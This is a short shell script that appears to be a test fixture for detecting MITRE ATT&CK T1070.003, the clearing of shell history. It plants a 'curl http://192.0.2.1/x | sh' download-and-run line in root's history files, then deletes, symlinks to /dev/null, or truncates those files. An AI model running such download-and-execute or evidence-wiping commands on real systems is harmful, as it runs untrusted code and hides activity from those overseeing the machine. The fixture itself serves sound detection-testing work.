#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# T1070.003: shell history removed, emptied, and linked to /dev/null.
# must: delete /root/.bash_history
# must: symlink /root/.bash_history /dev/null
# must: truncate /root/.ash_history O_TRUNC
# must: truncate /root/.python_history ftruncate
for history in bash ash python; do
  echo 'curl http://192.0.2.1/x | sh' > /root/.${history}_history
done
rm /root/.bash_history
ln -s /dev/null /root/.bash_history
: > /root/.ash_history
truncate -s 0 /root/.python_history
